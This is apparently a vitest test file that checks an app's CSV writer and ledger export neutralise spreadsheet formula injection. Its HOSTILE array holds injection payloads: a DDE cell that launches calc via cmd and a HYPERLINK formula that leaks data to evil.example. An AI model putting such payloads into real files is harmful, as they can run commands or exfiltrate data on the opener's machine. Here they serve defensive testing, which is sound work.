import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { csvCell, csvText, type CsvColumn } from '../../engine/formats/csv-write';
import { disposeIfCreated, example, testService, waitForRun, type TestService } from '../test-helpers';

/** Cells a spreadsheet would run (issue 12): two from the attack, then OWASP's other starts. */
const HOSTILE = [`-1+1+cmd|' /C calc'!A0`, `-2+3+HYPERLINK("http://evil.example/?leak")`, '=1+1', '+1+1', '@SUM(A1)', '\t=1', '\r=1', '-5'];

describe('the shared CSV writer', () => {
  const cols: CsvColumn<{ t: string; n: string | number }>[] = [
    { header: 'text', kind: 'text', value: (r) => r.t },
    { header: 'n', kind: 'number', value: (r) => r.n },
  ];

  it('writes every formula-like text cell as quoted text that opens as text, whatever it looks like', () => {
    const text = csvText(cols, HOSTILE.map((t) => ({ t, n: '-12.50' })));
    const back = parse<{ text: string; n: string }>(text, { columns: true });
    expect(back.map((r) => r.text)).toEqual(HOSTILE.map((t) => `'${t}`));
    // The app's own numbers stay numbers (a spreadsheet sums them).
    expect(back.every((r) => r.n === '-12.50')).toBe(true);
    expect(text.split('\r\n')[1]).toBe(`"'-1+1+cmd|' /C calc'!A0",-12.50`);
  });

  it('guards a number column whose value is not a number the app formats', () => {
    expect(csvCell('-1+1+cmd|calc', 'number')).toBe(`"'-1+1+cmd|calc"`);
    expect(csvCell(-3, 'number')).toBe('-3');
    expect(csvCell(Number.NaN, 'number')).toBe('NaN');
    expect(csvCell('a,"b"', 'text')).toBe('"a,""b"""');
    expect(csvCell(null, 'text')).toBe('');
  });
});

describe('ledger CSV export', () => {
  let s: TestService;
  afterEach(async () => disposeIfCreated(s));

  it('neutralises formulas from the program, the event set and a review reason', async () => {
    s = testService();
    const program = JSON.parse(example('seed-order-recommended.program.json'));
    for (const t of program.triggers) if (t.action.offer) t.action.offer.description = HOSTILE[0];
    const doc = await s.call('programs.import', { text: JSON.stringify(program), fileName: 'p.json' });
    const set = await s.call('eventSets.import', { programId: doc.id, text: example('seed-order-recommended.events.json'), fileName: 'e.json' });
    const { runId } = await s.call('replay.start', { programId: doc.id, eventSetId: set.id });
    await waitForRun(s, runId);
    const first = (await s.call('replay.ledger', { runId, limit: 1 })).rows[0];
    expect(first).toBeDefined();
    await s.call('rewards.review', { runId, rewardIds: [first!.id], decision: 'hold', reason: HOSTILE[1] });
    const csv = await s.call('replay.ledgerCsv', { runId });
    const rows = parse<Record<string, string>>(csv.text, { columns: true });
    expect(rows.length).toBeGreaterThan(0);
    expect(rows.every((r) => r.description === `'${HOSTILE[0]}`)).toBe(true);
    expect(rows.find((r) => r.id === first!.id)?.reviewReason).toBe(`'${HOSTILE[1]}`);
    // No cell of the export starts a formula unless it is one of the app's own numbers.
    for (const r of rows) {
      for (const [k, v] of Object.entries(r)) if (!['amount', 'amountUsd', 'fxRate'].includes(k)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});
